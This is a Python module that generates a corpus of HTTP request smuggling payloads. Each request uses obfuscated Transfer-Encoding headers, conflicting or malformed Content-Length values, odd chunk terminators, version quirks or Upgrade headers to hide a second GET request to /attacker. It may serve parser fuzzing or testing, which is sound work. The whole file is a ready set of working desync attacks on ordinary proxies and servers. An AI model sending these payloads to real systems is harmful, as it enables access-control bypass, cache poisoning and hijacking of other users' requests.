"""Requests that two readers could understand differently: each hides another one, whose path begins with /attacker."""

hidden = "GET /attacker HTTP/1.1\r\nHost: a\r\nX-Hidden: 1\r\n\r\n"


def _with_head(lines, body, method="POST", version="HTTP/1.1", target="/x"):
    return f"{method} {target} {version}\r\nHost: a\r\n{lines}\r\n{body}"


# Ways to write a Transfer-Encoding that some readers take for chunked and others do not see.
codings = [
    "Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked",
    " Transfer-Encoding: chunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked,", "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding:\r\n chunked",
    "X: y\r\n Transfer-Encoding: chunked", "Transfer-Encoding: chunked;a=b", "Transfer-Encoding: CHUNKED",
    "Transfer-Encoding: chunked\x00", "Transfer-Encoding\x00: chunked", "Transfer_Encoding: chunked",
    "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding:", "TE: chunked",
    "Transfer-Encoding: chunk\x65d", "Foo: bar\nTransfer-Encoding: chunked", "Foo: bar\rTransfer-Encoding: chunked",
    "Transfer-Encoding: \xffchunked", "Transfer-Encoding: chunked\x0c",
    "Transfer-encoding: chunked\r\nTransfer-Encoding: x",
]

# Ways to write a Content-Length that readers understand differently.
lengths = [
    "Content-Length: 0\r\nContent-Length: {n}", "Content-Length: {n}\r\nContent-Length: 0", "Content-Length: {n}, {n}",
    "Content-Length: {n}\r\nContent-Length: {n}", "Content-Length: 0, {n}", "Content-Length: +{n}",
    "Content-Length: -{n}",
    "Content-Length: 0x{n:x}", "Content-Length: {n}.0", "Content-Length: {n}e0", "Content-Length: {n} {n}",
    "Content-Length : {n}", "Content-Length\x0b: {n}", " Content-Length: {n}", "Content-Length: \x0b{n}",
    "Content-Length: {n}\x00", "Content-Length: 18446744073709551616", "Content-Length: 99999999999999999999999",
    "Content-Length: 000{n}", "Content_Length: {n}", "Content-Length: {n}_0", "Content-Length: ",
    "Content-Length: {n}\nX: y", "X: y\rContent-Length: {n}", "Content-Length:\r\n {n}", "Content-Length: 1{n}\x08",
]

# Chunked bodies that readers end at different places.
chunks = [
    "0\n\r\n", "0\r\n\n", "0\n\n", "00000000000000000\r\n\r\n", "0x0\r\n\r\n", "+0\r\n\r\n", "-0\r\n\r\n", " 0\r\n\r\n",
    "0 \r\n\r\n", "0;\n\r\n", "0;a=\"\r\n\r\n", "3\r\nabcX0\r\n\r\n", "3\r\nabc\n0\r\n\r\n", "3\r\nabc0\r\n\r\n",
    "FFFFFFFFFFFFFFFF0\r\nabc\r\n0\r\n\r\n", "10000000000000000\r\n\r\n0\r\n\r\n", "\r\n0\r\n\r\n", "0\r\nX: y\n\r\n",
    "0\r\nContent-Length: 5\r\n\r\n", "0\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\n X: y\r\n\r\n", "0_0\r\n\r\n",
    "g\r\n\r\n", "0\r\rX\r\n\r\n",
]


def payloads():
    """Title and bytes of every request."""
    found = []
    for coding in codings:
        body = "0\r\n\r\n" + hidden
        found.append((coding, _with_head(f"{coding}\r\nContent-Length: {len(body)}\r\n", body)))
        found.append((f"{coding}, no length", _with_head(f"{coding}\r\n", body)))
    for length in lengths:
        found.append((length, _with_head(length.format(n=len(hidden)) + "\r\n", hidden)))
    for chunk in chunks:
        found.append((f"chunk {chunk}", _with_head("Transfer-Encoding: chunked\r\n", chunk + hidden)))
    found += [
        ("length of GET", _with_head(f"Content-Length: {len(hidden)}\r\n", hidden, method="GET")),
        ("length and chunks of HTTP/1.0", _with_head(
            "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + hidden, version="HTTP/1.0")),
        ("chunks of HTTP/1.0", _with_head("Transfer-Encoding: chunked\r\n", "0\r\n\r\n" + hidden, version="HTTP/1.0")),
        ("version 1.2", _with_head(f"Content-Length: {len(hidden)}\r\n", hidden, version="HTTP/1.2")),
        ("version http", _with_head("", hidden, version="http/1.1")),
        ("HTTP/0.9", f"GET /x\r\n{hidden}"),
        ("spaces in the request line", f"GET  /x  HTTP/1.1\r\nHost: a\r\n\r\n{hidden}"),
        ("a target with a request", f"GET /x HTTP/1.1\nHost: a\n\n{hidden}"),
        ("two hosts", f"GET /x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n{hidden}"),
        ("no host", f"GET /x HTTP/1.1\r\n\r\n{hidden}"),
        ("Connection names Content-Length", _with_head(
            f"Connection: Content-Length\r\nContent-Length: {len(hidden)}\r\n", hidden)),
        ("Connection names Transfer-Encoding", _with_head(
            "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n" + hidden)),
        ("Expect", _with_head(f"Expect: 100-continue\r\nContent-Length: {len(hidden)}\r\n", hidden)),
        ("Upgrade to h2c", _with_head(
            "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", hidden,
            "GET")),
        ("Upgrade to TLS", _with_head("Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n", hidden, "GET")),
        ("a head that does not end", f"POST /x HTTP/1.1\r\nHost: a\r\nX: {hidden}"),
    ]
    return [(title, text.encode("latin-1")) for title, text in found]
